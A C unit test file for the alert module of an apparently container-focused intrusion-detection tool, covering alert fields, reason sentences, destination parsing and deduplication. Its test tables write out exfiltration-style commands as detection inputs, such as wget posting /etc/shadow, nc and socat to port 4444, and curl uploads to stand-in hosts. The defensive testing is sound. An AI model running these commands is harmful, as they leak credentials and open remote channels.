/* The alert document: identity, contents, sentence, gaps. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/rules/fixture.h"
#include "rules/alert/alert.h"
#include "rules/alert/reason.h"
#include "rules/alert/seen.h"
#include "rules/alert/target.h"
#include "rules/text.h"

#define SCP "{\"@timestamp\":\"2026-06-01T09:14:07Z\"," \
	"\"event.dataset\":\"tallyman.process\",\"event.action\":\"exec\"," \
	"\"event.id\":\"ev1\",\"event.category\":[\"process\"]," \
	"\"event.outcome\":\"success\",\"process\":{\"pid\":48213," \
	"\"entity_id\":\"ent1\",\"name\":\"scp\",\"executable\":" \
	"\"/usr/bin/scp\",\"args\":[\"scp\",\"f\",\"m@h:\"]," \
	"\"command_line\":\"scp f m@h:\"},\"user\":{\"id\":\"0\"," \
	"\"name\":\"root\"},\"container\":{\"id\":\"3f4b0c8e2a7d1b95\"," \
	"\"name\":\"some-nginx\",\"image\":{\"name\":\"nginx\"}," \
	"\"labels\":{\"a\":\"b\"}},\"tallyman.entry\":{\"kind\":\"exec\"," \
	"\"by\":{\"user\":\"alice\",\"command_line\":" \
	"\"docker exec -it some-nginx sh\"}}}"

static struct sigma_set *
rule_set(const char *extra)
{
	static const char text[] = "title: Copy tool\nid: TM-X-1\n"
	    "level: high\nauthor: one, two\nlicense: Apache-2.0\n"
	    "description: what it is\nreferences: [http://a/, http://b/]\n"
	    "tags: [attack.exfiltration, attack.t1048.002]\n"
	    "logsource: {category: process_creation}\n"
	    "detection: {s: {process.name: scp}, condition: s}\n";
	struct sigma_set *set = sigma_new();
	struct buf all, errors;
	size_t n = 0;

	buf_init(&all, 0);
	buf_init(&errors, 0);
	buf_printf(&all, "%s%s", text, extra);
	if (sigma_read(set, "dir/copy.yml", all.data, all.len, &errors, &n)
	    != 0)
		fail_msg("%s", buf_text(&errors));
	buf_fini(&all);
	buf_fini(&errors);
	return set;
}

static struct event *
make(const struct sigma_set *set, const char *json, const char *key,
    const struct gaps *gaps)
{
	struct event *e = fixture_event_text(json), *a;
	struct alert_cause c = { .rule = set->rules[0], .event = e,
	    .key = key };

	assert_non_null(e);
	a = alert_new(&c, gaps);
	assert_non_null(a);
	event_unref(e);
	return a;
}

static bool
list_has(const struct event *e, enum field_id id, const char *text)
{
	const struct event_value *v = event_get(e, id);
	uint32_t i;

	for (i = 0; v != NULL && i < v->count; i++)
		if (strcmp(v->strs[i].text, text) == 0)
			return true;
	return false;
}

static void
test_contents(void **state)
{
	struct sigma_set *set = rule_set("");
	struct event *a = make(set, SCP, "process=ent1", NULL);

	(void)state;
	assert_int_equal(event_dataset(a), EVENT_ALERT);
	assert_string_equal(event_str(a, FIELD_EVENT_KIND), "alert");
	assert_true(list_has(a, FIELD_EVENT_CATEGORY, "intrusion_detection"));
	assert_true(list_has(a, FIELD_EVENT_CATEGORY, "process"));
	assert_string_equal(event_str(a, FIELD_EVENT_ACTION), "exec");
	assert_string_equal(event_str(a, FIELD_EVENT_OUTCOME), "success");
	assert_int_equal(event_num(a, FIELD_EVENT_SEVERITY), 73);
	assert_true(event_get(a, FIELD_EVENT_RISK_SCORE)->dbl == 73.0);
	assert_string_equal(event_str(a, FIELD_RULE_ID), "TM-X-1");
	assert_string_equal(event_str(a, FIELD_RULE_NAME), "Copy tool");
	assert_string_equal(event_str(a, FIELD_RULE_REFERENCE), "http://a/");
	assert_string_equal(event_str(a, FIELD_RULE_RULESET), "copy.yml");
	assert_string_equal(event_str(a, FIELD_RULE_CATEGORY),
	    "process_creation");
	assert_true(list_has(a, FIELD_RULE_AUTHOR, "one"));
	assert_true(list_has(a, FIELD_RULE_AUTHOR, "two"));
	assert_true(list_has(a, FIELD_THREAT_TACTIC_ID, "TA0010"));
	assert_true(list_has(a, FIELD_THREAT_TACTIC_NAME, "Exfiltration"));
	assert_true(list_has(a, FIELD_THREAT_TECHNIQUE_ID, "T1048"));
	assert_true(list_has(a, FIELD_THREAT_TECHNIQUE_SUBTECHNIQUE_ID,
	    "T1048.002"));
	assert_true(list_has(a, FIELD_TALLYMAN_ALERT_EVENTS, "ev1"));
	assert_string_equal(event_str(a, FIELD_CONTAINER_NAME), "some-nginx");
	assert_int_equal(event_num(a, FIELD_PROCESS_PID), 48213);
	assert_true(list_has(a, FIELD_PROCESS_ARGS, "m@h:"));
	assert_true(list_has(a, FIELD_CONTAINER_LABELS, "a"));
	assert_string_equal(event_str(a, FIELD_TALLYMAN_ENTRY_BY_USER),
	    "alice");
	assert_string_equal(event_str(a, FIELD_TALLYMAN_GAPS), "{}");
	event_unref(a);
	sigma_free(set);
}

/* What makes a cause one decides, nothing else. */
static void
test_identity(void **state)
{
	struct sigma_set *set = rule_set("");
	struct event *a = make(set, SCP, "process=ent1", NULL);
	struct event *b = make(set, SCP, "process=ent1", NULL);
	struct event *c = make(set, SCP, "process=ent2", NULL);

	(void)state;
	assert_string_equal(event_str(a, FIELD_EVENT_ID),
	    event_str(b, FIELD_EVENT_ID));
	assert_string_equal(event_str(a, FIELD_EVENT_ID),
	    event_str(a, FIELD_TALLYMAN_ALERT_ID));
	assert_string_not_equal(event_str(a, FIELD_EVENT_ID),
	    event_str(c, FIELD_EVENT_ID));
	event_unref(a);
	event_unref(b);
	event_unref(c);
	sigma_free(set);
}

/* A container chooses its arguments and labels. */
static void
test_size_is_bounded(void **state)
{
	struct sigma_set *set = rule_set("");
	struct wall when = { 0 };
	struct event *e = event_new(EVENT_PROCESS, when), *a;
	struct alert_cause c = { .rule = set->rules[0], .event = e,
	    .key = "k" };
	static char big[9000];
	char key[32];
	struct buf text;
	int i;

	(void)state;
	memset(big, 'x', sizeof(big) - 1);
	event_set_cstr(e, FIELD_PROCESS_NAME, "scp");
	event_set_cstr(e, FIELD_CONTAINER_NAME, "c");
	event_set_cstr(e, FIELD_PROCESS_COMMAND_LINE, big);
	event_set_cstr(e, FIELD_PROCESS_PARENT_COMMAND_LINE, big);
	event_set_cstr(e, FIELD_PROCESS_TITLE, big);
	for (i = 0; i < 4000; i++)
		event_add_str(e, FIELD_PROCESS_ARGS, "argument", 8, false);
	for (i = 0; i < 300; i++) {
		snprintf(key, sizeof(key), "label%d", i);
		event_add_pair(e, FIELD_CONTAINER_LABELS, key, "0123456789");
	}
	event_seal(e);
	a = alert_new(&c, NULL);
	assert_non_null(a);
	buf_init(&text, 0);
	assert_int_equal(event_write_json(a, &text), 0);
	assert_in_range(text.len, 1000, ALERT_BYTES_MAX);
	assert_string_equal(event_str(a, FIELD_CONTAINER_NAME), "c");
	assert_non_null(event_get(a, FIELD_PROCESS_ARGS));
	assert_string_equal(event_str(a, FIELD_PROCESS_COMMAND_LINE) +
	    strlen(event_str(a, FIELD_PROCESS_COMMAND_LINE)) - 4, "x...");
	buf_fini(&text);
	event_unref(a);
	event_unref(e);
	sigma_free(set);
}

struct sentence { const char *json, *text; };

static void
test_reasons(void **state)
{
	static const struct sentence rows[] = {
		{ SCP, "root ran 'scp f m@h:' (pid 48213) in container "
		    "some-nginx (image nginx), begun by alice with "
		    "'docker exec -it some-nginx sh'" },
		{ "{\"event.dataset\":\"tallyman.process\",\"event.action\":"
		    "\"exec\",\"process.executable\":\"/bin/x\","
		    "\"user.id\":\"7\"}",
		    "uid 7 ran '/bin/x', container not known" },
		{ "{\"event.dataset\":\"tallyman.process\",\"event.action\":"
		    "\"exec\",\"process.command_line\":\"id\",\"user.name\":"
		    "\"bob\",\"tallyman.container.attribution.method\":"
		    "\"host\"}", "bob ran 'id' on the host" },
		{ "{\"event.dataset\":\"tallyman.flow\",\"source.ip\":"
		    "\"172.17.0.3\",\"destination.ip\":\"203.0.113.9\","
		    "\"destination.port\":22,\"destination.domain\":"
		    "\"drop.example.net\",\"network.transport\":\"tcp\","
		    "\"container.id\":\"3f4b0c8e2a7d1b95c6e0\","
		    "\"tallyman.flow.payload.sent\":10485760,"
		    "\"tallyman.flow.left_host\":\"yes\"}",
		    "172.17.0.3 in container 3f4b0c8e2a7d... sent 10.0 MiB to "
		    "drop.example.net (203.0.113.9:22) by tcp; it left the "
		    "host" },
		{ "{\"event.dataset\":\"tallyman.network\",\"event.action\":"
		    "\"connect\",\"process.name\":\"curl\",\"process.pid\":5,"
		    "\"user.name\":\"www\",\"file.path\":"
		    "\"/run/docker.sock\",\"container.name\":\"c\"}",
		    "curl (pid 5) of www in container c: connect to "
		    "/run/docker.sock" },
		{ "{\"event.dataset\":\"tallyman.file\",\"event.action\":"
		    "\"open\",\"process.name\":\"cat\",\"user.name\":\"www\","
		    "\"file.path\":\"/etc/shadow\",\"container.name\":\"c\"}",
		    "cat of www in container c: open /etc/shadow" },
		{ "{\"event.dataset\":\"tallyman.process\",\"event.action\":"
		    "\"mount\",\"event.outcome\":\"failure\",\"process.name\":"
		    "\"mount\",\"process.executable\":\"/bin/mount\","
		    "\"process.command_line\":\"mount -o bind / /mnt\","
		    "\"user.name\":\"root\",\"file.path\":\"/mnt\","
		    "\"container.name\":\"c\"}",
		    "mount of root in container c: mount /mnt, which failed" },
	};
	struct buf out;
	struct event *e;
	size_t i;

	(void)state;
	buf_init(&out, 0);
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		e = fixture_event_text(rows[i].json);
		assert_non_null(e);
		buf_reset(&out);
		reason_write(&out, e, 0, NULL);
		assert_string_equal(buf_text(&out), rows[i].text);
		event_unref(e);
	}
	buf_fini(&out);
}

/* A command line; its first word is the program. */
static bool
find_target(const char *line, struct target *t)
{
	struct wall when = { 0 };
	struct event *e = event_new(EVENT_PROCESS, when);
	const char *p = line, *base;
	bool found;
	size_t n;

	n = strcspn(p, " ");
	base = memrchr(p, '/', n);
	base = base == NULL ? p : base + 1;
	event_set_str(e, FIELD_PROCESS_NAME, base, (size_t)(p + n - base));
	if (strncmp(line, "wget-busybox ", 13) == 0) {
		event_set_cstr(e, FIELD_PROCESS_NAME, "busybox");
		event_add_str(e, FIELD_PROCESS_ARGS, "wget", 4, false);
		p += 13;
	}
	while (*p != '\0') {
		n = strcspn(p, " ");
		event_add_str(e, FIELD_PROCESS_ARGS, p, n, false);
		p += n;
		p += strspn(p, " ");
	}
	memset(t, 0, sizeof(*t));
	found = target_find(e, t);
	event_unref(e);
	return found;
}

static void
test_targets(void **state)
{
	static const struct {
		const char *line, *host;
		unsigned port;
	} rows[] = {
		{ "scp f mallory@203.0.113.9:/tmp/", "203.0.113.9", 22 },
		{ "scp -P 2222 -i key f drop.example.net:", "drop.example.net",
		    2222 },
		{ "scp -P2222 -o User:x f h:/x", "h", 2222 },
		{ "scp f m@[2001:db8::9]:/x", "2001:db8::9", 22 },
		{ "scp scp://m@h:2200/x .", "h", 2200 },
		{ "scp /a/b:c /d", NULL, 0 },
		{ "sftp -P 222 mallory@h", "h", 222 },
		{ "sftp mallory@h:/in", "h", 22 },
		{ "ssh -x -oForwardAgent=no -l mallory h ls", "h", 22 },
		{ "ssh -p 2222 m@h", "h", 2222 },
		{ "rsync -a /srv/ m@h:/in/", "h", 0 },
		{ "rsync -a /srv/ h::in", "h", 873 },
		{ "rsync -a /srv/ rsync://h/in", "h", 873 },
		{ "rsync -e ssh /a /b", NULL, 0 },
		{ "curl -T f http://198.18.0.9/u/", "198.18.0.9", 80 },
		{ "curl -T f https://h:8443/u/", "h", 8443 },
		{ "curl -T f ftp://u:p@h/x", "h", 21 },
		{ "curl -T f https://[2001:db8::9]/x", "2001:db8::9", 443 },
		{ "curl -T f files.example.org/x", "files.example.org", 80 },
		{ "curl --version", NULL, 0 },
		{ "wget --post-file=/etc/shadow http://h/", "h", 80 },
		{ "wget-busybox --post-file=/etc/shadow http://h/", "h", 80 },
		{ "nc -w 3 203.0.113.9 4444", "203.0.113.9", 4444 },
		{ "ncat --ssl h 443", "h", 443 },
		{ "nc -l 4444", NULL, 0 },
		{ "socat - TCP:203.0.113.9:4444", "203.0.113.9", 4444 },
		{ "socat FILE:x openssl:h:443,verify=0", "h", 443 },
		{ "busybox nc h 1", "h", 1 },
		{ "/usr/bin/scp f h:", "h", 22 },
		{ "tar cf - h:", NULL, 0 },
	};
	struct target t;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (find_target(rows[i].line, &t) != (rows[i].host != NULL))
			fail_msg("%s: %s", rows[i].line, t.host);
		assert_string_equal(t.host, rows[i].host == NULL ? "" :
		    rows[i].host);
		assert_int_equal(t.port, rows[i].port);
	}
}

static void
test_target_in_alert(void **state)
{
	struct sigma_set *set = rule_set("");
	struct event *a = make(set, "{\"event.dataset\":"
	    "\"tallyman.process\",\"event.action\":\"exec\","
	    "\"process.name\":\"scp\","
	    "\"process.args\":[\"scp\",\"f\",\"m@203.0.113.9:\"],"
	    "\"process.command_line\":\"scp f m@203.0.113.9:\","
	    "\"user.name\":\"root\",\"container.name\":\"c\"}", "k", NULL);
	struct buf text;

	(void)state;
	buf_init(&text, 0);
	assert_string_equal(event_str(a, FIELD_DESTINATION_ADDRESS),
	    "203.0.113.9");
	assert_int_equal(event_num(a, FIELD_DESTINATION_PORT), 22);
	text_add(&text, a, FIELD_DESTINATION_IP);
	assert_string_equal(buf_text(&text), "203.0.113.9");
	assert_string_equal(event_str(a, FIELD_EVENT_REASON),
	    "root ran 'scp f m@203.0.113.9:' in container c, to "
	    "203.0.113.9:22 as its arguments say");
	buf_fini(&text);
	event_unref(a);
	sigma_free(set);
}

static void
test_texts(void **state)
{
	struct buf out;

	(void)state;
	buf_init(&out, 0);
	text_add_bytes(&out, 1);
	buf_add_char(&out, ' ');
	text_add_bytes(&out, 1023);
	buf_add_char(&out, ' ');
	text_add_bytes(&out, 1536);
	buf_add_char(&out, ' ');
	text_add_bytes(&out, 12 * 1024 * 1024);
	assert_string_equal(buf_text(&out),
	    "1 byte 1023 bytes 1.5 KiB 12.0 MiB");
	buf_reset(&out);
	/* Never half a character. */
	text_add_cut(&out, "a\xc3\xa9z", 2);
	assert_string_equal(buf_text(&out), "a...");
	buf_fini(&out);
}

/* Losses before the cause are not gaps of it; losses after it are. */
static void
test_gaps(void **state)
{
	struct ledger *ledger = ledger_new();
	struct ledger_stage *stage = ledger_stage(ledger, "audit");
	ledger_count *lost = ledger_dropped(stage, "overrun");
	struct gaps *g = gaps_new(ledger);
	struct wall t = { 1000 * MONO_S }, cause;
	struct buf out;
	int i;

	(void)state;
	buf_init(&out, 0);
	ledger_add(lost, 7);		/* before the first event */
	for (i = 0; i < 10; i++, t.ns += MONO_S)
		gaps_tick(g, t);
	cause = t;
	gaps_write(g, cause, &out);
	assert_string_equal(buf_text(&out), "{}");
	ledger_add(lost, 3);
	buf_reset(&out);
	gaps_write(g, cause, &out);
	assert_string_equal(buf_text(&out), "{\"audit.overrun\":3}");
	for (i = 0; i < 10; i++, t.ns += MONO_S)
		gaps_tick(g, t);
	buf_reset(&out);
	gaps_write(g, cause, &out);	/* it lasted over the loss */
	assert_string_equal(buf_text(&out), "{\"audit.overrun\":3}");
	buf_reset(&out);
	gaps_write(g, t, &out);
	assert_string_equal(buf_text(&out), "{}");
	buf_reset(&out);
	cause.ns = 0;			/* older than the ring */
	gaps_write(g, cause, &out);
	assert_string_equal(buf_text(&out), "{\"audit.overrun\":10}");
	buf_fini(&out);
	gaps_free(g);
	ledger_free(ledger);
}

static void
expect_key(const struct sigma_rule *rule, const char *json, const char *key)
{
	struct event *e = fixture_event_text(json);
	struct buf out;

	buf_init(&out, 0);
	assert_int_equal(seen_key(rule, e, &out), key != NULL);
	assert_string_equal(buf_text(&out), key == NULL ? "" : key);
	buf_fini(&out);
	event_unref(e);
}

static void
test_keys(void **state)
{
	struct sigma_set *plain = rule_set("");
	struct sigma_set *once = rule_set("tallyman:\n  once-per: "
	    "[container.id, tallyman.entry.exec_id]\n");
	const struct sigma_rule *r = plain->rules[0];

	(void)state;
	expect_key(r, SCP, "process=ent1");
	expect_key(r, "{\"event.dataset\":\"tallyman.flow\","
	    "\"tallyman.flow.id\":\"f1\",\"process.entity_id\":\"p\"}",
	    "flow=f1");
	expect_key(r, "{\"event.dataset\":\"tallyman.file\",\"file.path\":"
	    "\"/x\",\"process.entity_id\":\"p\"}", "process=p file=/x");
	expect_key(r, "{\"event.dataset\":\"tallyman.network\","
	    "\"destination.ip\":\"10.0.0.1\",\"destination.port\":80,"
	    "\"process.entity_id\":\"p\"}", "process=p file= to=10.0.0.1 80");
	expect_key(r, "{\"event.dataset\":\"tallyman.docker\",\"event.id\":"
	    "\"d1\",\"process.entity_id\":\"p\"}", "event=d1");
	expect_key(r, "{\"event.dataset\":\"tallyman.docker\"}", NULL);
	expect_key(once->rules[0], "{\"event.dataset\":\"tallyman.process\","
	    "\"container.id\":\"c\",\"tallyman.entry.exec_id\":\"x\","
	    "\"process.entity_id\":\"p\"}",
	    "container.id=c tallyman.entry.exec_id=x ");
	expect_key(once->rules[0], "{\"event.dataset\":\"tallyman.process\","
	    "\"container.id\":\"c\",\"process.entity_id\":\"p\"}",
	    "process=p");
	sigma_free(plain);
	sigma_free(once);
}

static void
test_seen(void **state)
{
	ledger_count evicted = 0;
	struct seen *s = seen_new(&evicted);
	char key[32];
	int i;

	(void)state;
	assert_true(seen_first(s, "r1", "k", 1));
	assert_false(seen_first(s, "r1", "k", 1));
	assert_true(seen_first(s, "r2", "k", 1));
	seen_forget(s, "r2", "k", 1);
	assert_true(seen_first(s, "r2", "k", 1));
	for (i = 0; i < SEEN_MAX; i++) {
		snprintf(key, sizeof(key), "%d", i);
		seen_first(s, "r3", key, strlen(key));
	}
	assert_int_equal(ledger_get(&evicted), 2);
	assert_true(seen_first(s, "r1", "k", 1));
	seen_free(s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_contents),
		cmocka_unit_test(test_identity),
		cmocka_unit_test(test_size_is_bounded),
		cmocka_unit_test(test_reasons),
		cmocka_unit_test(test_targets),
		cmocka_unit_test(test_target_in_alert),
		cmocka_unit_test(test_texts),
		cmocka_unit_test(test_gaps),
		cmocka_unit_test(test_keys),
		cmocka_unit_test(test_seen),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
